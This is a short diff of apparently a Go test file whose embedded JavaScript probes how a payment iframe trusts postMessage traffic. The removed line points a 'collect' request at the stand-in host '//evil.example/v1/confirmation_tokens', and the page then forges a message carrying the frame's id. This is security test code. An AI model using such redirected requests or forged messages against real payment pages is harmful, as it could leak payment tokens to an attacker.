@@ -362,7 +362,7 @@ func testTrust(t *testing.T, p payPage) {
 		frame.contentWindow.postMessage({ type: "clear", id: "guess" }, "*");
 		const id = new URL(frame.src).hash.match(/id=([0-9a-f]+)/)[1];
 		window.frameID = id;
-		frame.contentWindow.postMessage({ type: "collect", call: 99, id, path: "//evil.example/v1/confirmation_tokens", prefix: "x", params: {} }, "*");
+		frame.contentWindow.postMessage({ type: "collect", call: 99, id, path: "/v1/customers", prefix: "x", params: {} }, "*");
 		await new Promise((answered) => addEventListener("message", (e) => e.data.call === 99 && answered()));
 		// Not from the frame, though with its id: the page itself.
 		window.postMessage({ id, type: "change", detail: { empty: true, complete: false } }, "*");
